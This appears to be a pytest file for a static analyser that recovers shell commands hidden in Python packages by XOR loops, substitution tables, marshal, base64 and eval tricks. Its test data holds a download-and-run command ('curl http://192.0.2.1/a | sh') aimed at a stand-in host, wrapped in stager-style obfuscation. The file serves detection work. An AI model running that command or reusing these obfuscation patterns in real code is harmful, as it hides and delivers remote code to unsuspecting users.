"""Loops that make hidden text, and texts that are computed again and again."""

from __future__ import annotations

import base64
import marshal

import pytest

from pratique.artifact import Member, Role
from pratique.facts.python.reader import read_python

_COMMAND = "import os\nos.system('curl http://192.0.2.1/a | sh')\n"


def _commands(source: str) -> list[str]:
    data = source.encode()
    member = Member(path="pkg/__init__.py", data=data, sha256="0" * 64, size=len(data), role=Role.MODULE)  # type: ignore[arg-type]
    return [call.arguments["0"].text for call in read_python(member).calls if call.name == "os.system"]


@pytest.mark.parametrize(
    "loop",
    [
        "for i in range(len(d)):\n    o += chr(d[i] ^ ord(k[i % len(k)]))",
        "for n in d:\n    o = o + chr(n ^ 75)",
        "for i, n in enumerate(d):\n    o += chr(n ^ ord(k[0]))",
        "for i in range(len(d)):\n    c = d[i]\n    s = k[i % len(k)]\n    o += chr(c ^ ord(s))",
        "import itertools\no = ''.join(chr(c ^ ord(s)) for c, s in zip(d, itertools.cycle(k)))",
        "o = ''.join([chr(d[i] ^ 75) for i in range(len(d))])",
        "for i in range(len(d)):\n    o += eval('chr(d[i] ^ ord(k[(len(k) - 2) + True]))')",
    ],
    ids=["repeating key", "one number", "enumerated", "prepared", "zipped", "comprehension", "in a text"],
)
def test_a_loop_of_any_length_gives_its_text(loop: str) -> None:
    """What a loop puts together letter by letter is read, however long it is."""
    hidden = bytes(ord(c) ^ ord("K") for c in _COMMAND + "#" * 19_000)
    assert "curl http://192.0.2.1/a | sh" in _commands(f"k = 'KK'\nd = {hidden!r}\no = ''\n{loop}\nexec(o)\n")


def test_a_loop_that_cannot_be_computed_is_walked() -> None:
    """A loop over what is not known is no text: what it calls is read all the same."""
    assert _commands("import os\no = ''\nfor c in input():\n    o += str(os.system('id' + c))\n") == ["id<input()[]>"]


def test_a_loop_that_is_half_known_is_walked_once() -> None:
    """Where a turn cannot be computed at once, nothing of it is counted twice."""
    source = "import os\no = 'echo '\nfor c in 'abcdefghijklmnopqrstuvwxyz':\n    o += c.upper()\nos.system(o)\n"
    assert _commands(source) == ["echo ABCDEFGHIJKLMNOPQRSTUVWXYZ"]


def test_a_loop_that_swells_is_not_computed() -> None:
    """A text that would be larger than any constant may is not made."""
    assert _commands("import os\no = ''\nfor i in range(200_000):\n    o += 'x' * 100_000\nos.system('id')\n") == ["id"]


def test_an_expression_in_a_text_is_computed_each_time() -> None:
    """A decoder whose steps stand in texts gives something else for each piece that it is handed."""
    source = "import os\ndef f(x):\n    return eval('x[::-1]')\nos.system(f(' lruc') + f('a/1.2.0.291//:ptth'))\n"
    assert _commands(source) == ["curl http://192.0.2.1/a"]


def test_a_text_that_computes_itself_ends() -> None:
    """A text that refers to itself is computed once."""
    assert _commands("import os\ns = 'eval(s)'\nos.system(str(eval(s)))\n")


@pytest.mark.parametrize("text", [_COMMAND, _COMMAND.encode()], ids=["text", "bytes"])
def test_source_in_the_format_of_marshal_is_read(text: str | bytes) -> None:
    """`marshal.loads` of a text gives that text, not a code object."""
    assert _commands(f"import marshal\nexec(marshal.loads({marshal.dumps(text)!r}))\n")


@pytest.mark.parametrize(
    "loop",
    [
        "''.join([y[0] for x in d for y in [[k, v] for k, v in t.items()] if x == y[1]])",
        "''.join(k for x in [c for c in d] for k, v in t.items() if v == x)",
    ],
    ids=["pairs", "unpacked"],
)
def test_a_table_of_substitutions_is_looked_up(loop: str) -> None:
    """A text of any length whose every letter stands for another one is read."""
    text = _COMMAND + "#" * 30_000
    table = {letter: chr(0x100 + ord(letter)) for letter in set(text)}
    hidden = "".join(table[letter] for letter in text)
    assert "curl http://192.0.2.1/a | sh" in _commands(f"t = {table!r}\nd = {hidden!r}\nexec({loop})\n")


def test_text_is_made_bytes_by_a_codec_before_it_is_decoded() -> None:
    """`codecs.getencoder` gives the bytes and a length, as stagers use it."""
    hidden = base64.b64encode(_COMMAND.encode()).decode()
    assert _commands(f"import base64, codecs\nexec(base64.b64decode(codecs.getencoder('utf-8')({hidden!r})[0]))\n")
